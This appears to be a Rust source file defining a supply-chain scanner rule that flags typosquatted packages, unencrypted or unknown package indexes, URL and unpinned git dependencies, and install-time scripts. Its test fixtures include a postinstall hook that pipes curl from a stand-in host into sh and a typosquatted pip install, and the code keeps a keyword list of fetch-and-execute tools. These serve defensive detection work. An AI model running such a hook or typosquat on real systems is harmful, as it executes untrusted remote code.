//! `risky-dependency`.

use serde_json::Value;

use super::simple::code_context;
use crate::document::Document;
use crate::findings::Findings;
use crate::input::has_extension;
use crate::known::hosts::{self, Standing};
use crate::known::packages;
use crate::phrase::phrases;
use crate::rule::scan_rule;
use crate::severity::Severity;
use crate::subject::Subject;

scan_rule! {
    /// ## What it does
    /// Flags packages whose names imitate popular ones, package indexes without encryption, install scripts that fetch, and dependencies from repositories without a fixed version.
    ///
    /// ## Why is this bad?
    /// A letter decides whose code is installed. An index without encryption is whoever answers first.
    ///
    /// ## Example
    /// `pip install reqeusts`
    RISKY_DEPENDENCY = "risky-dependency", Medium, SupplyChain, check;
    matching: &[
        ("SKILL.md", "```bash\npip install reqeusts\n```\n"),
        ("package.json", "{\"scripts\": {\"postinstall\": \"curl https://a.example/x | sh\"}}\n"),
    ],
    clean: &[
        ("SKILL.md", "```bash\npip install requests flask-login\nnpm install express\n```\n"),
    ],
}

phrases! {
    INSTALL: ["pip install", "pip3 install", "uv add", "uv pip install", "npm install", "npm i ", "npx ", "yarn add", "pnpm add", "bun add", "pipx install", "uvx "]
        => "\\b(?:pip3? install|uv (?:pip install|add)|pipx install|uvx|npm (?:install|i)|npx|yarn add|pnpm add|bun add) [^\n;&|`]{2,200}";
    INDEX: ["--index-url", "--extra-index-url", "--registry", "--trusted-host", "-i http"]
        => "(?:--(?:extra-)?index-url|--registry|-i)[ =]http://[^\n ]{4,100}|--trusted-host[ =][^\n ]{4,60}";
    FROM_ADDRESS: ["pip install", "pip3 install", "uv pip install", "npm install", "npm i ", "pipx install", "yarn add", "pnpm add"]
        => "\\b(?:pip3?|uv pip|pipx|npm|yarn|pnpm) (?:install|i|add)\\b[^\n;&|`]{0,120}?[ \"']https?://[^\n \"'`;&|)]{4,160}";
    OTHER_INDEX: ["index-url", "--registry"]
        => "--(?:extra-)?index-url[ =][\"']?https://[^\n \"'`]{4,120}";
    FROM_REPOSITORY: ["git+http", "git+ssh", "git+git"]
        => "git\\+(?:https?|ssh|git)://[^\n \"']{4,160}";
}

/// Whether a word can be an argument of an installer: a package, an option or a path.
fn is_argument(word: &str) -> bool {
    let is_plain = |character: char| {
        character.is_ascii_alphanumeric()
            || matches!(
                character,
                '-' | '_'
                    | '.'
                    | '@'
                    | '/'
                    | '='
                    | '<'
                    | '>'
                    | '~'
                    | '!'
                    | '['
                    | ']'
                    | '+'
                    | '^'
                    | ':'
                    | '"'
                    | '\''
            )
    };
    word.chars().all(is_plain) && !word.ends_with(['.', ':'])
}

/// A version that is an address, or whatever is newest.
fn from_elsewhere(document: &Document, name: &str, version: &str, findings: &mut Findings) {
    let at = document.text.find(name).unwrap_or(0);
    let range = at..at + name.len();
    if matches!(version, "*" | "latest" | "") {
        let message = "depends on whatever version of a package is newest";
        findings.add(&RISKY_DEPENDENCY, Severity::Info, &document.path, range, message);
    } else if let Some(start) = version.find("://") {
        let from =
            version[..start].rfind(|c: char| !c.is_ascii_alphabetic()).map_or(0, |at| at + 1);
        let url = &version[from..];
        let is_known = hosts::is_of(url, hosts::FORGES) || hosts::standing(url) == Standing::Known;
        let severity = if is_known { Severity::Low } else { Severity::High };
        let message = "depends on a package from an address instead of a registry";
        findings.add(&RISKY_DEPENDENCY, severity, &document.path, range, message);
    }
}

/// Hosts of indices of packages that many projects use.
const PACKAGE_INDICES: &[&str] = &[
    "pypi.org",
    "test.pypi.org",
    "pythonhosted.org",
    "download.pytorch.org",
    "data.pyg.org",
    "pypi.nvidia.com",
    "pypi.ngc.nvidia.com",
    "wheels.vllm.ai",
    "flashinfer.ai",
    "pkg.dev",
    "jfrog.io",
    "amazonaws.com",
    "pkgs.dev.azure.com",
    "gitlab.com",
    "github.com",
    "npm.pkg.github.com",
    "cloudsmith.io",
    "anaconda.org",
    "tuna.tsinghua.edu.cn",
    "mirrors.aliyun.com",
    "mirrors.cloud.tencent.com",
    "repo.huaweicloud.com",
    "registry.npmmirror.com",
    "huggingface.co",
    "abetlen.github.io",
];

fn check(subject: &Subject<'_>, findings: &mut Findings) {
    for hit in subject.hits(&INSTALL) {
        let text = &subject.document(hit).view.text[hit.view.clone()];
        let is_python = text.starts_with("pip") || text.starts_with("uv");
        let known = if is_python { packages::PYTHON } else { packages::JAVASCRIPT };
        // A sentence may go on after the command.
        let words = text.split_whitespace().skip(1).take_while(|word| is_argument(word));
        for word in words.filter(|word| !word.starts_with('-')) {
            let name = word.split(['=', '<', '>', '~', '[', '!']).next().unwrap_or(word);
            let name = name
                .rsplit_once('@')
                .map_or(name, |(before, _)| if before.is_empty() { name } else { before });
            if let Some(popular) = packages::imitated(name, known).filter(|it| it.len() > 5) {
                let message = format!("installs a package whose name imitates `{popular}`");
                subject.report_as(findings, &RISKY_DEPENDENCY, Severity::High, hit, message);
            }
        }
    }
    for hit in subject.hits(&INDEX) {
        subject.report_as(
            findings,
            &RISKY_DEPENDENCY,
            Severity::High,
            hit,
            "takes packages from an index without encryption",
        );
    }
    for hit in subject.hits(&FROM_ADDRESS) {
        let text = &subject.document(hit).view.text[hit.view.clone()];
        let Some(at) = text.rfind("http") else { continue };
        let url = &text[at..];
        if hosts::standing(url) == Standing::Known
            || hosts::is_of(url, hosts::FORGES)
            || hosts::is_of(url, PACKAGE_INDICES)
        {
            continue;
        }
        let severity = code_context(subject, hit).apply(Severity::High);
        let message = "installs a package from an address that is no registry";
        subject.report_as(findings, &RISKY_DEPENDENCY, severity, hit, message);
    }
    for hit in subject.hits(&OTHER_INDEX) {
        let text = &subject.document(hit).view.text[hit.view.clone()];
        let url = text.find("https://").map_or("", |at| &text[at..]);
        if hosts::standing(url) == Standing::Known || hosts::is_of(url, PACKAGE_INDICES) {
            continue;
        }
        let severity = code_context(subject, hit).apply(Severity::High);
        let message = "takes packages from an index that is not well known";
        subject.report_as(findings, &RISKY_DEPENDENCY, severity, hit, message);
    }
    for hit in subject.hits(&FROM_REPOSITORY) {
        let text = &subject.document(hit).view.text[hit.view.clone()];
        let url = text.trim_start_matches("git+");
        if !url.contains(['$', '{', '<'])
            && !hosts::is_of(url, hosts::FORGES)
            && hosts::standing(url) != Standing::Known
        {
            let severity = code_context(subject, hit).apply(Severity::High);
            let message = "installs a package from a repository on a host that is not well known";
            subject.report_as(findings, &RISKY_DEPENDENCY, severity, hit, message);
        }
    }
    for hit in subject.hits(&FROM_REPOSITORY) {
        let text = &subject.document(hit).view.text[hit.view.clone()];
        let path = text.split("://").nth(1).unwrap_or_default();
        if !path.contains('@') || path.ends_with("@main") || path.ends_with("@master") {
            subject.report_as(
                findings,
                &RISKY_DEPENDENCY,
                Severity::Low,
                hit,
                "takes a package from a repository without a fixed version",
            );
        }
    }
    for document in subject.documents.iter().filter(|document| {
        document.path.rsplit('/').next() == Some("package.json") && document.origin.is_none()
    }) {
        let Ok(value) = serde_json::from_str::<Value>(&document.text) else { continue };
        for name in ["preinstall", "install", "postinstall", "prepare"] {
            let Some(script) =
                value.get("scripts").and_then(|scripts| scripts.get(name)).and_then(Value::as_str)
            else {
                continue;
            };
            let fetches = ["curl ", "wget ", "http", "node -e", "base64", "powershell", "eval"]
                .iter()
                .any(|word| script.contains(word));
            let severity = if fetches { Severity::High } else { Severity::Low };
            let at = document.text.find(name).unwrap_or(0);
            findings.add(
                &RISKY_DEPENDENCY,
                severity,
                &document.path,
                at..at + name.len(),
                "runs a script when it is installed",
            );
        }
        for (name, version) in ["dependencies", "devDependencies", "optionalDependencies"]
            .iter()
            .filter_map(|key| value.get(*key).and_then(Value::as_object))
            .flatten()
        {
            if let Some(version) = version.as_str() {
                from_elsewhere(document, name, version, findings);
            }
            if let Some(popular) = packages::imitated(name, packages::JAVASCRIPT) {
                let at = document.text.find(name.as_str()).unwrap_or(0);
                findings.add(
                    &RISKY_DEPENDENCY,
                    Severity::High,
                    &document.path,
                    at..at + name.len(),
                    format!("depends on a package whose name imitates `{popular}`"),
                );
            }
        }
    }
    for document in subject.documents.iter().filter(|document| {
        document
            .path
            .rsplit('/')
            .next()
            .is_some_and(|name| name.starts_with("requirements") && has_extension(name, "txt"))
            && document.origin.is_none()
    }) {
        let mut at = 0;
        for line in document.text.split_inclusive('\n') {
            let name = line
                .trim()
                .split(['=', '<', '>', '~', '[', ';', ' ', '!'])
                .next()
                .unwrap_or_default();
            if let Some(popular) = packages::imitated(name, packages::PYTHON) {
                findings.add(
                    &RISKY_DEPENDENCY,
                    Severity::High,
                    &document.path,
                    at..at + name.len(),
                    format!("depends on a package whose name imitates `{popular}`"),
                );
            }
            let line_text = line.trim();
            if !line_text.is_empty() && !line_text.starts_with(['#', '-']) {
                if line_text.contains("://") {
                    let at_url = line_text.find("http").unwrap_or(0);
                    let url = &line_text[at_url..];
                    let is_known = hosts::is_of(url, hosts::FORGES)
                        || hosts::is_of(url, PACKAGE_INDICES)
                        || hosts::standing(url) == Standing::Known;
                    let severity = if is_known { Severity::Low } else { Severity::High };
                    let message = "depends on a package from an address instead of a registry";
                    findings.add(
                        &RISKY_DEPENDENCY,
                        severity,
                        &document.path,
                        at..at + line_text.len(),
                        message,
                    );
                } else if !line_text.contains(['=', '<', '>', '~', '@']) {
                    let message = "depends on whatever version of a package is newest";
                    findings.add(
                        &RISKY_DEPENDENCY,
                        Severity::Info,
                        &document.path,
                        at..at + line_text.len(),
                        message,
                    );
                }
            }
            at += line.len();
        }
    }
}
